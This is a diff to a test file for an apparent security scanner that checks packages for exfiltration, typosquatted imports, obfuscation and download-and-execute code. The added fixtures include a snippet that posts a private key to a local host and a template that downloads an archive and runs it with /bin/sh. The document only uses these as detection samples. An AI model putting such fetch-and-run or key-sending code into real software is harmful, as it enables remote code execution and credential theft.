@@ -108,7 +108,7 @@ def test_confidence_carries_over_to_packages_that_it_was_not_made_from(
     false = json.loads(out.read_text())["false_by_confidence_from_other_packages"]
     scale, _ = precision_table(TABLE.read_text(encoding="utf-8"))
     assert false["high"]["share"] <= 1 - scale.high
-    assert false["medium"]["low"] <= 1 - scale.medium  # left out one by one, rules at the limit change sides
+    assert false["medium"]["share"] <= 1 - scale.medium
     assert false["low"]["share"] > 1 - scale.medium
 
 
@@ -116,11 +116,7 @@ def test_confidence_carries_over_to_packages_that_it_was_not_made_from(
     ("rule", "severity", "expected"),
     [
         ("insecure.unsafe-deserialisation", Severity.MEDIUM, Confidence.HIGH),
-        (
-            "insecure.predictable-temporary-file",
-            Severity.HIGH,
-            Confidence.LOW,
-        ),  # nine were judged, one is false
+        ("insecure.insecure-temporary-file", Severity.HIGH, Confidence.LOW),  # seven were judged
         ("behavior.fail", Severity.HIGH, Confidence.HIGH),
         ("behavior.lookalike", Severity.MEDIUM, Confidence.LOW),
         ("near_copy.changed-line", Severity.MEDIUM, Confidence.LOW),
@@ -273,6 +269,14 @@ TOLD = "The client sends this value with every request. Create your own one and 
         ),
         ("blob.py", f"CONTENT = '{ENCODED}'\n", "obfuscation.hidden-text", True),
         (
+            "client.py",
+            "import requests\n\n\ndef check(private_key):\n    requests.post('http://127.0.0.1/a', private_key)\n",
+            "capabilities.exfiltration",
+            False,
+        ),
+        ("a.py", "import requestss\n", "imports.lookalike", False),
+        ("a.py", "import pillow_secure\n", "imports.lookalike", True),
+        (
             "double.py",
             "from requests import Session\n\nSession.request = spy\n",
             "capabilities.tampered-verification",
@@ -333,6 +337,20 @@ def test_a_secret_that_documentation_shows_is_less_sure_where_it_is_used(tmp_pat
     ] == [(str(tmp_path / "README.md").removeprefix(f"{tmp_path.parent}/"), Severity.MEDIUM, Confidence.LOW)]
 
 
+STARTED = """import subprocess, requests
+
+data = requests.get('http://127.0.0.1/a.gz').content
+with open('/x/a.gz', 'wb') as file:
+    file.write(data)
+subprocess.run(['{program}', '/x/a.gz'])
+"""
+
+
+def test_a_program_that_runs_what_was_written_is_one_of_intent(tmp_path: Path) -> None:
+    write(tmp_path, {"a.py": STARTED.format(program="/bin/sh")})
+    assert [item.rule for item in look(tmp_path).failing(Severity.HIGH)] == ["capabilities.drops-and-starts"]
+
+
 @pytest.mark.parametrize(
     ("name", "text"),
     [
@@ -362,6 +380,7 @@ def test_a_secret_that_documentation_shows_is_less_sure_where_it_is_used(tmp_pat
             "Load real credentials from environment variables such as `API_KEY`; use fake values in tests.\n",
         ),
         ("hosts.py", "import socket\n\nsocket.gethostbyname_ex(socket.gethostname() + '.local')\n"),
+        ("unpacks.py", STARTED.format(program="gunzip")),
         ("index.py", "# --trusted-host is a list of names, see package.models.sources in the registry.\n"),
     ],
 )
